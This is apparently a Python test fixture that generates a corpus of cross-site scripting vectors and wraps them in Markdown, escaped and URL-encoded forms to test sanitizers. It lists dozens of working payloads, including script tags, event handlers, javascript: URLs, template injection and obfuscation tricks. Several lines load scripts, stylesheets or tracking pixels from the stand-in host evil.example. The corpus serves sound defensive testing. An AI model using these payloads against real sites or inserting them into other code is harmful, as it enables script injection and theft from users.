"""Text that tries to become a program: vectors, and the wrappings in which Markdown or a template might let them through.

`corpus()` has more than five hundred. Each calls `boom()`, so that a browser can tell when one got through.
"""

from __future__ import annotations

import html
from urllib.parse import quote

VECTORS = [
    "<script>boom()</script>",
    "<ScRiPt>boom()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>boom()</script\n>",
    "<<script>boom();//<</script>",
    "</textarea><script>boom()</script>",
    "</title><script>boom()</script>",
    "</style></script><script>boom()</script>",
    "<img src=x onerror=boom()>",
    "<img src=x onerror='boom()'>",
    "<img/src=x/onerror=boom()>",
    '<img src="x" onerror="boom()"',
    "<img src=https://evil.example/pixel.gif>",
    "<svg onload=boom()>",
    "<svg><script>boom()</script></svg>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:boom()><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=boom()>",
    "<iframe src=javascript:boom()></iframe>",
    "<iframe srcdoc='<script>boom()</script>'></iframe>",
    "<object data=javascript:boom()></object>",
    "<embed src=javascript:boom()>",
    "<body onload=boom()>",
    "<input autofocus onfocus=boom()>",
    "<details open ontoggle=boom()>",
    "<video><source onerror=boom()></video>",
    "<audio src=x onerror=boom()>",
    "<marquee onstart=boom()>",
    "<a href=javascript:boom()>x</a>",
    "<a href='java\nscript:boom()'>x</a>",
    "<a href='&#106;avascript:boom()'>x</a>",
    "<a href=data:text/html,<script>boom()</script>>x</a>",
    "<form action=javascript:boom()><button>x</button></form>",
    "<button formaction=javascript:boom()>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:boom()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<p onclick=boom() id=x>x</p>",
    "<template><script>boom()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=boom()>'>",
    "<!--><img src=x onerror=boom()>-->",
    "<![CDATA[<script>boom()</script>]]>",
    "<?xml version='1.0'?><script>boom()</script>",
    '"><img src=x onerror=boom()>',
    "'><img src=x onerror=boom()>",
    "' onmouseover=boom() x='",
    '" autofocus onfocus=boom() x="',
    "javascript:boom()",
    "{{ constructor.constructor('boom()')() }}",
    "{% include 'x' %}${boom()}",
    "[x](javascript:boom())",
    "[x](JaVaScRiPt:boom())",
    "[x](java\tscript:boom())",
    "[x](&#106;avascript:boom())",
    "[x](vbscript:boom())",
    "[x](data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=)",
    "![x](javascript:boom())",
    "![x](https://evil.example/pixel.gif)",
    '![x](x"onerror="boom())',
    "[x]: javascript:boom()\n\n[x]",
    "<javascript:boom()>",
    "[x](<javascript:boom()>)",
    '[x](https://a.example "onmouseover=boom() x=")',
    "```<script>\nboom()\n```",
    "`<img src=x onerror=boom()>`",
    "<scr\u200bipt>boom()</scr\u200bipt>",
    "\u202e<script>boom()</script>",
    "<script>boom()//\u2028</script>",
]


def _wrapped(vector: str) -> list[str]:
    return [
        vector,
        f"Text before. {vector} Text after.",
        f"# {vector}",
        f"- {vector}\n  - {vector}",
        f"> {vector}",
        f"| a | b |\n|---|---|\n| {vector.replace('|', '/')} | x |",
        f"**{vector}** _{vector}_ ~~{vector}~~",
        html.escape(vector),
        quote(vector),
    ]


def corpus() -> list[str]:
    return [text for vector in VECTORS for text in _wrapped(vector)]
